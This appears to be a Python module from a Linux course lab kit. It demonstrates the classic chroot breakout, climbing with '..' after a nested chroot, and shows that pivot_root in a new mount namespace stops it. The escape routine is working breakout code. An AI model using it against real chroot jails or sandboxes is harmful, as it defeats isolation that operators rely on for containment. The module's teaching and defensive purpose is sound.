"""The chroot breakout, and why pivot_root stops it.

chroot(2) changes how one process resolves "/", nothing more: the old root
is still mounted, and the kernel stops ".." at the root only for a process
whose working directory is *inside* that root. A process that keeps
CAP_SYS_CHROOT can chroot into a subdirectory while its working directory
stays above it; from there ".." climbs past the container's root up to the
host's, and chroot(".") makes that the root again.

After pivot_root(2) in a new mount namespace and a detach of the old root,
the host's filesystem is no longer mounted anywhere in the namespace: ".."
from the container's root is the container's root, and the same climb ends
where it started.

Run as `python -m labkit.course.facts.breakout ROOTFS MARKER chroot|pivot_root`,
in a fresh process (never a fork of a notebook kernel); prints JSON.
"""

import json
import os
import sys

from labkit.linux import rootfs as rootfs_setup
from labkit.linux import syscalls
from labkit.linux.process import read_all


def escape():
    """The classic breakout, from inside a chroot. Returns the escaped-to
    root's listing. It chroots into a directory the rootfs already has, so
    that nothing is written to a shared rootfs."""
    os.chroot("/tmp")            # the new root is below the working directory
    for _ in range(64):          # so ".." is not stopped: climb to the real /
        os.chdir("..")
    os.chroot(".")
    return sorted(os.listdir("/"))


def attempt(root, marker, method):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        result = {}
        try:
            if method == "pivot_root":
                syscalls.unshare(syscalls.CLONE_NEWNS)
                rootfs_setup.make_private()
                rootfs_setup.bind_self(root)
                rootfs_setup.pivot(root)
            else:
                os.chroot(root)
                os.chdir("/")
            result["before"] = os.path.exists(marker)
            result["listing"] = escape()
            result["after"] = os.path.exists(marker)
        except OSError as e:
            result["error"] = str(e)
        os.write(w, json.dumps(result).encode())
        os._exit(0)
    os.close(w)
    data = read_all(r)
    os.close(r)
    os.waitpid(pid, 0)
    result = json.loads(data)
    result["method"] = method
    # Reached the host: the marker, which exists only outside the rootfs,
    # was invisible before the climb and readable after it.
    result["escaped"] = bool(not result.get("before") and result.get("after"))
    return result


if __name__ == "__main__":
    root, marker, method = sys.argv[1:4]
    print(json.dumps(attempt(root, marker, method)))
